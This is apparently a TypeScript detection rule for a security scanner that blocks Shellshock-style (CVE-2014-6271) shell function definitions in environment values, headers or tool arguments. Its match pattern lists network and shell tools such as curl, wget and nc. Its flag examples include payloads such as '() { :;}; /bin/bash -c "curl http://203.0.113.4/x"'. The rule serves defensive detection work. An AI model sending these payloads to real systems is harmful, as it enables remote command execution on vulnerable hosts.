import { defineRule } from "oktsec/rule";

export default defineRule({
  id: "CMDEXEC_151",
  title: "A shell function definition with a command behind it",
  why: "An old shell that meets this in its environment runs the command before anything else.",
  fix: "Update the shell; refuse the value.",
  severity: "critical",
  category: "command-execution",
  lane: "block",
  maps: { asi: ["ASI05"], mcp: ["MCP05"], cwe: ["CWE-78"], see: ["https://nvd.nist.gov/vuln/detail/CVE-2014-6271"] },
  keywords: ["() {", "(){"],
  match:
    /\(\)\s{0,3}\{\s{0,3}(?::|_|[^{}\n]{0,12});?\s{0,3}\}\s{0,3};\s{0,3}(?:\/(?:usr\/)?s?bin\/|echo\b|curl\b|wget\b|ping\b|bash\b|sh\b|cat\b|id\b|nc\b|python\d?\b|perl\b|rm\b|touch\b)/,
  examples: {
    flags: [{ text: '() { :;}; /bin/bash -c "curl http://203.0.113.4/x"', kind: "header" }, {
      text: "() { ignored; }; echo vulnerable",
      kind: "tool_argument",
    }, "env x='() { :;}; ping -c 1 203.0.113.4' bash -c true"],
    passes: [{ text: "function f() { return 1; }\necho(f());", kind: "document" }, {
      text: "(() => { start(); })();",
      kind: "document",
    }, { text: "main() {\n  echo hi\n}", kind: "document" }],
  },
});
